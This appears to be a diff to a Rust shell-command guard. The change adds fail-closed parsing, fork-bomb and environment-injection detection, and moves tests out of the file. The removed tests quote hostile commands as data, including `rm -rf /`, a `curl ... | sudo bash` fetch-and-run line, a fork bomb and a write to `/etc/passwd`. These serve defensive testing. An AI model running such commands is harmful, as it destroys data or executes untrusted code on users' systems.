@@ -12,7 +12,7 @@ use brush_parser::ast::{
 use super::decision::Decision;
 use super::screen::too_complex;
 use super::words::{self, Word};
-use super::wrappers::{self, Unwrapped, basename};
+use super::wrappers::{self, basename};
 
 /// Deepest chain of scripts inside scripts (`bash -c "eval '...'"`).
 pub const MAX_SCRIPT_DEPTH: usize = 8;
@@ -34,6 +34,11 @@ pub struct Command {
     pub args_from_stdin: bool,
     /// Wrappers this command was reached through, outermost first.
     pub via: Vec<String>,
+    /// Files redirected into the command's stdin (`< file`).
+    pub reads: Vec<Word>,
+    /// Directory changes (`cd`, `pushd`) earlier on the command line, in order; the command
+    /// runs in the directory they lead to.
+    pub cd: Vec<Word>,
 }
 
 impl Command {
@@ -65,16 +70,71 @@ pub struct Analysis {
     pub problems: Vec<Problem>,
 }
 
-/// Parses `src` and lists every simple command it would run.
+/// Most wrappers looked through for one command (`nice nice nice ... ls`).
+pub const MAX_WRAPPERS: usize = 16;
+
+/// Parses `src` and lists every simple command it would run. A parser failure (even a panic
+/// inside the parser) becomes a `deny`, never an answer that lets the command through.
 pub fn analyze(src: &str) -> Analysis {
+    match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| analyze_inner(src))) {
+        Ok(a) => a,
+        Err(_) => Analysis {
+            commands: Vec::new(),
+            problems: vec![Problem {
+                id: "parser-failure",
+                decision: Decision::Deny,
+                message: "the shell parser failed on this command, so it cannot be judged".into(),
+            }],
+        },
+    }
+}
+
+fn analyze_inner(src: &str) -> Analysis {
     let mut a = Analysis::default();
     let mut w = Walker {
         out: &mut a,
         functions: Vec::new(),
+        calls: Vec::new(),
         options: ParserOptions::default(),
+        cd: Vec::new(),
     };
     w.script(src, 0, &Ctx::default());
+    if let Some(f) = call_cycle(&w.functions, &w.calls) {
+        w.problem(
+            "recursive-function",
+            Decision::Deny,
+            format!("function `{f}` ends up calling itself (the fork-bomb pattern)"),
+        );
+    }
     a
+}
+
+/// A defined function that reaches itself through the calls made in function bodies.
+fn call_cycle(functions: &[String], calls: &[(String, String)]) -> Option<String> {
+    for start in functions {
+        let mut seen: Vec<&str> = Vec::new();
+        let mut stack: Vec<&str> = calls
+            .iter()
+            .filter(|(f, _)| f == start)
+            .map(|(_, c)| c.as_str())
+            .collect();
+        while let Some(f) = stack.pop() {
+            if f == start {
+                return Some(start.clone());
+            }
+            if seen.contains(&f) {
+                continue;
+            }
+            seen.push(f);
+            stack.extend(
+                calls
+                    .iter()
+                    .filter(|(g, _)| g == f)
+                    .map(|(_, c)| c.as_str()),
+            );
+        }
+    }
+    None
 }
 
 #[derive(Clone, Default)]
@@ -86,12 +146,18 @@ struct Ctx {
     in_function: Option<String>,
     /// Text fed to stdin by a here-doc or here-string.
     stdin_text: Option<Word>,
+    /// Files redirected into stdin.
+    reads: Vec<Word>,
 }
 
 struct Walker<'a> {
     out: &'a mut Analysis,
     functions: Vec<String>,
+    /// (function, program it calls) for every call made inside a function body.
+    calls: Vec<(String, String)>,
     options: ParserOptions,
+    /// `cd` targets seen so far (conservatively, also those inside subshells).
+    cd: Vec<Word>,
 }
 
 impl Walker<'_> {
@@ -214,7 +280,29 @@ impl Walker<'_> {
 
     fn compound(&mut self, cc: &CompoundCommand, depth: usize, ctx: &Ctx) {
         match cc {
-            CompoundCommand::Arithmetic(a) => self.arithmetic(&a.expr.value, depth, ctx),
+            CompoundCommand::Arithmetic(a) => {
+                self.arithmetic(&a.expr.value, depth, ctx);
+                // `( (rm -rf /) )` reaches us as arithmetic `((`, but bash runs it as nested
+                // subshells: judge the text as commands too.
+                let mut inner = Walker {
+                    out: &mut *self.out,
+                    functions: Vec::new(),
+                    calls: Vec::new(),
+                    options: self.options.clone(),
+                    cd: self.cd.clone(),
+                };
+                let quiet = inner.out.problems.len();
+                inner.script(&format!("({})", a.expr.value), depth + 1, ctx);
+                // What fails to parse as commands was real arithmetic, not an evasion.
+                let mut i = quiet;
+                while i < self.out.problems.len() {
+                    if self.out.problems[i].id == "parse-error" {
+                        self.out.problems.remove(i);
+                    } else {
+                        i += 1;
+                    }
+                }
+            }
             CompoundCommand::ArithmeticForClause(f) => {
                 for e in [&f.initializer, &f.condition, &f.updater]
                     .into_iter()
@@ -295,6 +383,21 @@ impl Walker<'_> {
             IoRedirect::File(_, kind, target) => match target {
                 IoFileRedirectTarget::Filename(w) => {
                     let word = self.word(&w.value, depth, ctx);
+                    let fd = match r {
+                        IoRedirect::File(fd, ..) => fd.as_ref().map(|f| f.to_string()),
+                        _ => None,
+                    };
+                    if let (IoFileRedirectKind::Read, Some(w)) = (kind, &word) {
+                        ctx.reads.push(w.clone());
+                    }
+                    if matches!(kind, IoFileRedirectKind::Read)
+                        && fd.as_deref().is_none_or(|f| f == "0")
+                    {
+                        // `< file`: stdin is a file whose content the guard does not see.
+                        ctx.stdin_fed = true;
+                        ctx.piped_from = None;
+                        ctx.stdin_text = None;
+                    }
                     let writes = matches!(
                         kind,
                         IoFileRedirectKind::Write
@@ -313,7 +416,13 @@ impl Walker<'_> {
                     }
                 }
                 IoFileRedirectTarget::Duplicate(w) => {
-                    self.word(&w.value, depth, ctx);
+                    // `>&file` writes a file; `>&2` and `>&-` only duplicate or close.
+                    if let Some(word) = self.word(&w.value, depth, ctx) {
+                        let is_fd = word.text.chars().all(|c| c.is_ascii_digit() || c == '-');
+                        if matches!(kind, IoFileRedirectKind::DuplicateOutput) && !is_fd {
+                            ctx.writes.push(word);
+                        }
+                    }
                 }
                 IoFileRedirectTarget::Fd(_) => {}
                 IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
@@ -372,7 +481,11 @@ impl Walker<'_> {
             self.item(item, depth, &mut c, &mut argv);
         }
         if argv.is_empty() {
-            return None;
+            if c.writes.is_empty() && c.reads.is_empty() {
+                return None;
+            }
+            // `> file` alone truncates the file, like `: > file`.
+            argv.push(Word::literal(":"));
         }
         if self.out.commands.len() >= MAX_COMMANDS {
             self.problem(
@@ -394,6 +507,32 @@ impl Walker<'_> {
                 }
             }
             Item::AssignmentWord(a, w) => {
+                let name = match &a.name {
+                    ast::AssignmentName::VariableName(n) => n.as_str(),
+                    ast::AssignmentName::ArrayElementName(n, index) => {
+                        // `a[$(cmd)]=1`: the subscript is evaluated, substitutions and all.
+                        self.word(&format!("\"{}\"", index.replace('"', "\\\"")), depth, ctx);
+                        n.as_str()
+                    }
+                };
+                let exported = argv.first().is_none_or(|p| {
+                    matches!(
+                        p.text.as_str(),
+                        "export" | "declare" | "typeset" | "readonly" | "local" | "env"
+                    )
+                });
+                if exported
+                    && wrappers::INJECTING_ENV.iter().any(|v| {
+                        name == *v
+                            || (v.ends_with('*') && name.starts_with(v.trim_end_matches('*')))
+                    })
+                {
+                    self.problem(
+                        "env-injection",
+                        Decision::Ask,
+                        format!("setting `{name}` makes programs run code or load libraries the guard cannot see"),
+                    );
+                }
                 match &a.value {
                     ast::AssignmentValue::Scalar(v) => {
                         self.word(&v.value, depth, ctx);
@@ -409,7 +548,8 @@ impl Walker<'_> {
                 }
                 // As an argument (`export X=1`, `declare -a X=(...)`) the word is passed on.
                 if !argv.is_empty() {
-                    argv.push(Word::literal(w.value.clone()));
+                    let evaluated = words::evaluate(&w.value, &self.options);
+                    argv.extend(evaluated.word);
                 }
             }
             Item::ProcessSubstitution(_, sub) => {
@@ -425,172 +565,8 @@ impl Walker<'_> {
             }
         }
     }
-
-    /// Records a command and everything it runs through wrappers; returns its innermost program.
-    fn run(&mut self, argv: Vec<Word>, depth: usize, ctx: Ctx, args_from_stdin: bool) -> String {
-        let name = basename(&argv[0].text).to_string();
-        if argv[0].dynamic {
-            self.problem(
-                "dynamic-command",
-                Decision::Ask,
-                format!("the program name `{}` is computed at run time, so the guard cannot tell what runs", argv[0].text),
-            );
-        }
-        if ctx.in_function.as_deref() == Some(name.as_str()) {
-            self.problem(
-                "recursive-function",
-                Decision::Deny,
-                format!("function `{name}` calls itself (the fork-bomb pattern)"),
-            );
-        }
-        let inner = wrappers::unwrap(&argv);
-        self.out.commands.push(Command {
-            argv: argv.clone(),
-            writes: ctx.writes.clone(),
-            piped_from: ctx.piped_from.clone(),
-            stdin_fed: ctx.stdin_fed,
-            args_from_stdin,
-            via: ctx.via.clone(),
-        });
-        let mut innermost = name.clone();
-        let wraps = !inner.is_empty();
-        for u in inner {
-            let mut c = ctx.clone();
-            match u {
-                Unwrapped::Command {
-                    wrapper,
-                    argv,
-                    args_from_stdin,
-                } => {
-                    c.via.push(wrapper);
-                    if !argv.is_empty() {
-                        innermost = self.run(argv, depth, c, args_from_stdin);
-                    }
-                }
-                Unwrapped::Script { wrapper, script } => {
-                    if script.dynamic {
-                        self.problem(
-                            "dynamic-script",
-                            Decision::Ask,
-                            format!(
-                                "`{wrapper}` runs a script computed at run time (`{}`)",
-                                script.text
-                            ),
-                        );
-                    }
-                    c.via.push(wrapper);
-                    c.writes.clear();
-                    self.script(&script.text, depth + 1, &c);
-                }
-            }
-        }
-        // A shell or interpreter with no script of its own runs whatever arrives on stdin.
-        let reads_stdin = (wrappers::is_shell(&name)
-            || wrappers::STDIN_INTERPRETERS.contains(&name.as_str()))
-            && !wraps
-            && argv[1..]
-                .iter()
-                .all(|w| w.text.starts_with('-') && w.text != "-c");
-        if reads_stdin && ctx.stdin_fed {
-            match &ctx.stdin_text {
-                Some(text) if wrappers::is_shell(&name) && !text.dynamic => {
-                    let mut c = ctx.clone();
-                    c.via.push(name.clone());
-                    c.stdin_text = None;
-                    c.stdin_fed = false;
-                    self.script(&text.text, depth + 1, &c);
-                }
-                _ => self.problem(
-                    "stdin-code",
-                    Decision::Ask,
-                    format!("`{name}` runs code read from stdin, which the guard cannot see"),
-                ),
-            }
-        }
-        innermost
-    }
 }
 
+mod run;
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn argvs(src: &str) -> Vec<String> {
-        analyze(src).commands.iter().map(|c| c.display()).collect()
-    }
-
-    #[test]
-    fn finds_every_simple_command() {
-        assert_eq!(
-            argvs("ls -la | grep x && echo ok; (cd /tmp) &"),
-            ["ls -la", "grep x", "echo ok", "cd /tmp"]
-        );
-        assert_eq!(argvs("echo $(rm -rf /)"), ["rm -rf /", "echo $(rm -rf /)"]);
-        assert_eq!(argvs("echo `rm x`"), ["rm x", "echo `rm x`"]);
-        assert_eq!(argvs("cat <(rm y)"), ["rm y", "cat /dev/fd/63"]);
-        assert_eq!(
-            argvs("bash -c 'rm -rf /'"),
-            ["bash -c rm -rf /", "rm -rf /"]
-        );
-        assert_eq!(argvs("eval \"rm -rf /\""), ["eval rm -rf /", "rm -rf /"]);
-        assert_eq!(
-            argvs("sudo timeout 5 rm x"),
-            ["sudo timeout 5 rm x", "timeout 5 rm x", "rm x"]
-        );
-        assert_eq!(argvs("if true; then rm a; fi"), ["true", "rm a"]);
-        assert_eq!(argvs("f() { rm b; }"), ["rm b"]);
-        assert_eq!(argvs("bash <<EOF\nrm -rf /\nEOF"), ["bash", "rm -rf /"]);
-        assert_eq!(argvs("X=$(rm z) true"), ["rm z", "true"]);
-    }
-
-    #[test]
-    fn redirects_and_pipes_are_recorded() {
-        let a = analyze("{ echo x; } > /etc/passwd");
-        assert_eq!(a.commands[0].writes[0].text, "/etc/passwd");
-        let a = analyze("curl -s http://x | sudo bash");
-        let bash = a.commands.iter().find(|c| c.program() == "bash").unwrap();
-        assert_eq!(bash.piped_from.as_deref(), Some("curl"));
-        assert!(a.problems.iter().any(|p| p.id == "stdin-code"));
-        let a = analyze("echo hi 2>&1 >/dev/null");
-        assert_eq!(a.commands[0].writes.len(), 1);
-    }
-
-    #[test]
-    fn unaccountable_constructs_are_problems() {
-        for src in [
-            "$CMD -rf /",
-            "/usr/bin/r? x",
-            "{rm,-rf,/}",
-            "$(echo rm) x",
-            "bash -c \"$X\"",
-            "eval $X",
-            "a b 'c",
-        ] {
-            assert!(!analyze(src).problems.is_empty(), "{src}");
-        }
-        assert!(
-            analyze(":(){ :|:& };:")
-                .problems
-                .iter()
-                .any(|p| p.id == "recursive-function")
-        );
-    }
-
-    #[test]
-    fn hostile_nesting_fails_closed_quickly() {
-        let deep = "$(".repeat(5000) + &")".repeat(5000);
-        let started = std::time::Instant::now();
-        let a = analyze(&deep);
-        assert!(a.problems.iter().any(|p| p.id == "too-complex"));
-        assert!(started.elapsed() < std::time::Duration::from_secs(1));
-        // Just under the limit still parses without exhausting the stack.
-        let ok = "echo ".to_string() + &"$(echo ".repeat(60) + &")".repeat(60);
-        assert!(analyze(&ok).problems.iter().all(|p| p.id != "too-complex"));
-        let ifs = "if true; then ".repeat(60) + "ls" + &"; fi".repeat(60);
-        assert!(
-            analyze(&ifs).problems.is_empty(),
-            "{:?}",
-            analyze(&ifs).problems
-        );
-    }
-}
+mod tests;
